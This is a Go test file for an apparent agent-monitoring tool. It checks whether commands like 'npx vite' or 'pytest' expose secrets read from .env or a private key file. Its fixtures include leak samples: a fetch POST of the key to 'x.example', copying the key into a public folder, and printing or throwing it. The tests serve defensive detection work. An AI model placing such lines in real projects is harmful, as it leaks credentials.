package facts_test

import (
	"strings"
	"testing"

	"gate/facts"
	"gate/hook"
	"gate/internal/origin"
)

// TestLoaded holds that a file which a tool loads shows a secret only where it hands on
// what it reads, by itself or by another file of the agent's.
func TestLoaded(t *testing.T) {
	const (
		read   = "import { readFileSync } from 'node:fs'\n"
		key    = "const key = readFileSync('certs/localhost-key.pem')\n"
		served = "export default { server: { https: { key } } }\n"
		env    = "import pytest\n\n@pytest.fixture\ndef key():\n    return open('.env').read()\n"
	)
	for _, c := range []struct {
		line, file, text string
		other            string // FILE: TEXT
		shown            bool
	}{
		{"npx vite", "vite.config.ts", read + key + served, "", false},
		{"npx vite", "vite.config.ts", read + key + "if (!key) throw new Error('no key')\nconsole.log('https')\n" + served, "", false},
		{"npx vite", "vite.config.ts", read + key + served, "src/main.ts:console.log(document.title)\n", false},
		{"npx vite", "vite.config.ts", read + key + "console.log(key)\n" + served, "", true},
		{"npx vite", "vite.config.ts", read + key + "console.log(`${key}`)\n" + served, "", true},
		{"npx vite", "vite.config.ts", read + key + "throw new Error(key)\n", "", true},
		{"npx vite", "vite.config.ts", read + key + "fetch('https://x.example', {method: 'POST', body: key})\n" + served, "", true},
		{"npx vite", "vite.config.ts", read + "require('fs').writeFileSync('public/k.txt', readFileSync('certs/localhost-key.pem'))\n", "", true},
		{"npx vite", "vite.config.ts", read + key + "export default { define: { K: JSON.stringify(key + '') } }\n", "", true},
		{"npx vite", "vite.config.ts", read + "import { say } from './say'\nsay(readFileSync('certs/localhost-key.pem'))\n", "say.ts:export const say = x => console.log(x)\n", true},
		{"pytest", "conftest.py", env, "", false},
		{"pytest", "conftest.py", env, "test_a.py:def test(key):\n    print(key)\n", true},
		{"pytest", "conftest.py", env, "test_a.py:def test(key):\n    assert key == ''\n", true},
		{"pytest", "conftest.py", "print(open('.env').read())\n", "", true},
		{"pytest", "conftest.py", "from dotenv import load_dotenv\nload_dotenv('.env')\n", "", false},
		{"gunicorn app:app", "gunicorn.conf.py", "import ssl\ndef ssl_context(conf, make):\n    c = make()\n    c.load_cert_chain('certs/x.pem', 'certs/x-key.pem')\n    return c\n", "", false},
		{"node vite.config.mjs", "vite.config.mjs", read + key, "", true},
		{"node -e \"require('fs').readFileSync('.env')\"", "vite.config.ts", "", "", true},
	} {
		there := files{"/p/" + c.file: c.text, "/p/.git/HEAD": "ref: refs/heads/x", "/p/.env": "A=1\n", "/p/certs/localhost-key.pem": "-----BEGIN PRIVATE KEY-----\n"}
		written := []string{"/p/" + c.file}
		if name, text, ok := strings.Cut(c.other, ":"); ok {
			there["/p/"+name], written = text, append(written, "/p/"+name)
		}
		w := facts.World{Home: "/home/dev", Project: "/p", OS: "linux", Files: there, Ledger: func(string, string) origin.Ledger { return ledgerOf{written: written} }}
		shown := false
		for _, e := range facts.New(w).Of(toolEvent("Bash", map[string]any{"command": c.line})).Effects {
			is, ok := e.Is.(*hook.SecretRead)
			shown = shown || ok && is.Shown
		}
		if shown != c.shown {
			t.Errorf("%s with %s, shown %v:\n%s%s", c.line, c.file, shown, c.text, c.other)
		}
	}
}
